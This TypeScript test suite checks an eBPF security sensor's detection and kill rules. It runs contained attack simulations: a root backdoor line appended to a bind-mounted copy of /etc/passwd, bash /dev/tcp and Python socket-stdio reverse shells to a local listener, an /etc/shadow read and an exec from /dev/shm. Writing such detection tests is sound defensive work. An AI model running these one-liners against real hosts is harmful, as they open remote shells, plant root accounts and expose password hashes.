// Live: the sensor with the bundled rules catches real attacks (without
// touching the host's real files) and stays silent for ordinary work; kill
// rules stop processes, in the kernel when the rule can be decided there.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync, execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync, copyFileSync, chmodSync, realpathSync, rmSync, mkdirSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { skipReason, assertEcsValid, startSensor, type LiveSensor, type Doc, WAIT_MS } from './harness.js';
import { packageRoot } from '../../src/sources/kernel/paths.js';

const skip = skipReason();
const SEVERE = new Set(['medium', 'high', 'critical']);

function alerts(docs: Doc[], pred: (d: Doc) => boolean = () => true): Doc[] {
  return docs.filter((d) => d.event?.kind === 'alert' && pred(d));
}

function ruleIds(d: Doc): string[] {
  return (d.ebpf?.rules ?? []).map((r: { id: string }) => r.id).concat(d.rule?.id ? [d.rule.id] : []);
}

describe('bundled rules, live', { skip }, () => {
  let sensor: LiveSensor;
  let dir: string;

  before(async () => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'ebpf-sensor-rules-')));
    chmodSync(dir, 0o755);
    const extra = join(dir, 'site.yaml');
    writeFileSync(
      extra,
      [
        '- rule: test_kill_forbidden_exec',
        '  name: Forbidden binary started (test)',
        '  desc: Test rule the kernel can decide on its own.',
        `  condition: ebpf.kind = exec and process.executable = ${join(dir, 'forbidden')}`,
        '  output: "forbidden binary %{process.executable}"',
        '  severity: high',
        '  tags: [TA0002]',
        '  action: kill',
        '- rule: test_kill_marker_args',
        '  name: Process with a forbidden argument (test)',
        '  desc: Test rule only user space can decide (argument content).',
        '  condition: ebpf.kind = exec and process.args contains ebpf-sensor-kill-me',
        '  output: "forbidden argument in %{process.command_line}"',
        '  severity: high',
        '  tags: [TA0002]',
        '  action: kill',
        '- rule: test_kill_parent_open',
        '  name: Forbidden file opened (test)',
        '  desc: Test rule the kernel can decide, matched by the sensor\'s own parent (this test process).',
        `  condition: ebpf.kind = open and file.path = ${join(dir, 'parent-forbidden')}`,
        '  output: "forbidden file %{file.path}"',
        '  severity: high',
        '  tags: [TA0002]',
        '  action: kill',
        '',
      ].join('\n'),
      { mode: 0o600 },
    );
    sensor = await startSensor(['--rules', extra]);
  });
  after(async () => {
    const code = await sensor?.stop();
    assert.equal(code, 0, sensor?.stderr());
  });

  test('a write to /etc/passwd in a private mount namespace (over a bind-mounted copy) is caught', async () => {
    const copy = join(dir, 'passwd.copy');
    copyFileSync('/etc/passwd', copy);
    const script = [
      'mount --make-rprivate /',
      `mount --bind ${copy} /etc/passwd`,
      "echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd",
    ].join(' && ');
    const r = spawnSync('unshare', ['-m', 'sh', '-c', script], { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.ok(!execFileSync('cat', ['/etc/passwd'], { encoding: 'utf8' }).includes('backdoor:'), 'the host file is untouched');
    const a = await sensor.waitFor(
      (d) => d.event?.kind === 'alert' && d.file?.path === '/etc/passwd' && d.ebpf?.kind === 'open',
      WAIT_MS,
      'alert on the /etc/passwd write',
    );
    assert.ok(SEVERE.has(severityOf(a)), `severity ${severityOf(a)}`);
    assert.ok(ruleIds(a).includes('account_file_modified'), ruleIds(a).join(','));
    assert.ok(a.message, 'a rendered message');
  });

  test('a reverse shell to 127.0.0.1 is caught (bash /dev/tcp, and a socket-stdio shell)', async () => {
    const conns: Socket[] = [];
    const server = createServer((c) => {
      conns.push(c);
      c.write('id\nexit\n');
    });
    await new Promise<void>((res) => server.listen(0, '127.0.0.1', res));
    const port = (server.address() as { port: number }).port;
    try {
      // spawn, not spawnSync: the listener lives on this process's event loop.
      await run('bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
      const a = await sensor.waitFor((d) => d.event?.kind === 'alert' && d.destination?.port === port, WAIT_MS, 'reverse shell connect alert');
      assert.ok(ruleIds(a).includes('shell_connects_out'));
      assert.equal(severityOf(a), 'critical');
      // python: connect, dup2 onto 0/1/2, exec a shell — the shell never connects itself.
      const py = `import socket,os;s=socket.create_connection(("127.0.0.1",${port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh"])`;
      await run('python3', ['-c', py]);
      const b = await sensor.waitFor(
        (d) => d.event?.kind === 'alert' && ruleIds(d).includes('shell_with_socket_stdio'),
        WAIT_MS,
        'socket-stdio shell alert',
      );
      assert.equal(b.ebpf.exec.stdio.stdin, 'socket_inet');
    } finally {
      for (const c of conns) c.destroy();
      server.close();
    }
  });

  test('a successful read of /etc/shadow by an unexpected program is caught (regression: read prefixes naming one file)', async () => {
    const r = spawnSync('cat', ['/etc/shadow'], { encoding: 'utf8' });
    assert.equal(r.status, 0);
    const a = await sensor.waitFor(
      (d) => d.event?.kind === 'alert' && d.file?.path === '/etc/shadow' && d.process?.pid === r.pid,
      WAIT_MS,
      'alert on reading /etc/shadow',
    );
    assert.ok(ruleIds(a).includes('shadow_read_unexpected'), ruleIds(a).join(','));
    assert.equal(a.event.outcome, 'success');
  });

  test('an exec from /dev/shm is caught', async () => {
    const bin = `/dev/shm/ebpf-sensor-test-${process.pid}`;
    copyFileSync('/bin/true', bin);
    chmodSync(bin, 0o755);
    try {
      execFileSync(bin);
      const a = await sensor.waitFor((d) => d.event?.kind === 'alert' && d.process?.executable === bin, WAIT_MS, 'exec from /dev/shm alert');
      assert.ok(ruleIds(a).includes('exec_from_dev_shm'));
      assert.ok(SEVERE.has(severityOf(a)));
    } finally {
      rmSync(bin, { force: true });
    }
  });

  test('a kill rule the kernel can decide stops the process before it runs', async () => {
    const forbidden = join(dir, 'forbidden');
    copyFileSync('/bin/echo', forbidden);
    chmodSync(forbidden, 0o755);
    const r = spawnSync(forbidden, ['must-not-print'], { encoding: 'utf8' });
    assert.equal(r.signal, 'SIGKILL');
    assert.equal(r.stdout, '', 'the image never ran an instruction');
    const a = await sensor.waitFor((d) => d.event?.kind === 'alert' && d.process?.executable === forbidden, WAIT_MS, 'kill alert');
    assert.equal(a.ebpf.kernel_kill?.rule, 'test_kill_forbidden_exec');
    assert.equal(a.ebpf.kill.by, 'kernel');
    assert.equal(a.ebpf.kill.result, 'killed');
    assert.equal(a.ebpf.kill.delay_ms, 0);
  });

  test('issue-13-kill-guard: the kernel never kills the sensor\'s parent, even when a kill rule matches it', async () => {
    const forbidden = join(dir, 'parent-forbidden');
    writeFileSync(forbidden, 'x');
    // This process started the sensor: without the guard the kernel would SIGKILL the test runner here.
    assert.equal(readFileSync(forbidden, 'utf8'), 'x');
    const a = await sensor.waitFor((d) => d.event?.kind === 'alert' && d.process?.pid === process.pid && d.file?.path === forbidden, WAIT_MS, 'alert for the parent');
    assert.equal(a.ebpf.kernel_kill, undefined, 'not marked killed by the kernel');
    assert.notEqual(a.ebpf.kill?.result, 'killed');
    // The same rule still kills anyone else, in the kernel.
    const r = spawnSync('cat', [forbidden], { encoding: 'utf8' });
    assert.equal(r.signal, 'SIGKILL');
  });

  test('a kill rule only user space can decide stops the process, with the delay reported', async (t) => {
    // It would sleep for an hour: only the sensor's kill ends it within the test's life.
    const child = spawn('python3', ['-c', 'import time; time.sleep(3600)', 'ebpf-sensor-kill-me'], { stdio: 'ignore' });
    t.after(() => {
      if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
    });
    const exit = await new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((res) => child.on('exit', (code, signal) => res({ code, signal })));
    assert.ok(exit.signal === 'SIGKILL' || exit.code === 137, `killed (${JSON.stringify(exit)})`);
    const a = await sensor.waitFor((d) => d.event?.kind === 'alert' && ruleIds(d).includes('test_kill_marker_args'), WAIT_MS, 'user-space kill alert');
    assert.equal(a.ebpf.kill.by, 'user');
    assert.equal(a.ebpf.kill.result, 'killed');
    assert.equal(a.ebpf.kill.pid, child.pid);
    assert.ok(typeof a.ebpf.kill.delay_ms === 'number' && a.ebpf.kill.delay_ms >= 0, `delay ${a.ebpf.kill.delay_ms} ms reported`);
  });

  test('every document the live sensor wrote validates against ECS 9.4', () => {
    assertEcsValid(sensor.docs());
  });

  test('ordinary work raises no alert at medium or above: package install, build, git clone', async () => {
    const work = join(dir, 'work');
    mkdirSync(work);
    writeFileSync(join(work, 'hello.c'), '#include <stdio.h>\nint main(void){puts("hi");return 0;}\n');
    writeFileSync(join(work, 'Makefile'), 'hello: hello.c\n\tcc -O2 -o hello hello.c\n');
    // A fallback package for machines whose apt mirror does not answer.
    const pkg = join(work, 'pkg');
    mkdirSync(join(pkg, 'DEBIAN'), { recursive: true });
    mkdirSync(join(pkg, 'usr/share/doc/ebpf-sensor-test'), { recursive: true });
    writeFileSync(join(pkg, 'DEBIAN/control'), 'Package: ebpf-sensor-test\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@example.org>\nDescription: test\n');
    writeFileSync(join(pkg, 'DEBIAN/postinst'), '#!/bin/sh\nset -e\nldconfig\nexit 0\n', { mode: 0o755 });
    writeFileSync(join(pkg, 'usr/share/doc/ebpf-sensor-test/README'), 'x\n');
    const script = join(work, 'workload.sh');
    writeFileSync(
      script,
      [
        'set -e',
        `make -s -C ${work}`,
        `${work}/hello >/dev/null`,
        `git clone -q ${packageRoot} ${work}/clone`,
        'if ! DEBIAN_FRONTEND=noninteractive timeout 120 apt-get install --reinstall -y -q hostname >/dev/null 2>&1; then',
        `  dpkg-deb --build ${pkg} ${work}/test.deb >/dev/null && dpkg -i ${work}/test.deb >/dev/null && dpkg -r ebpf-sensor-test >/dev/null`,
        'fi',
      ].join('\n'),
    );
    const r = await run('sh', [script]);
    assert.equal(r.code, 0, 'the workload succeeded');
    await sensor.caughtUp();
    const docs = sensor.docs();
    // The workload's processes: descendants of the script's shell.
    const parents = new Map<number, number>();
    for (const d of docs) if (d.process?.pid && d.process?.parent?.pid) parents.set(d.process.pid, d.process.parent.pid);
    const ours = (pid: number): boolean => {
      for (let p = pid, i = 0; p && i < 64; i++) {
        if (p === r.pid) return true;
        const next = parents.get(p);
        if (next === undefined) return false;
        p = next;
      }
      return false;
    };
    const bad = alerts(docs, (d) => SEVERE.has(severityOf(d)) && ours(d.process.pid));
    assert.deepEqual(
      bad.map((d) => `${ruleIds(d).join(',')}: ${d.message}`),
      [],
      'no medium+ alert from ordinary work',
    );
    assert.ok(docs.filter((d) => ours(d.process?.pid)).length > 50, 'the workload was observed');
  });
});

/** Run a command without blocking the event loop. */
function run(cmd: string, args: string[]): Promise<{ code: number | null; pid: number }> {
  return new Promise((res) => {
    const c = spawn(cmd, args, { stdio: 'ignore' });
    const t = setTimeout(() => c.kill('SIGKILL'), 150000);
    c.on('exit', (code) => {
      clearTimeout(t);
      res({ code, pid: c.pid! });
    });
  });
}

function severityOf(d: Doc): string {
  const n = d.event?.severity as number | undefined;
  if (n === undefined) return 'none';
  if (n >= 99) return 'critical';
  if (n >= 73) return 'high';
  if (n >= 47) return 'medium';
  return 'low';
}
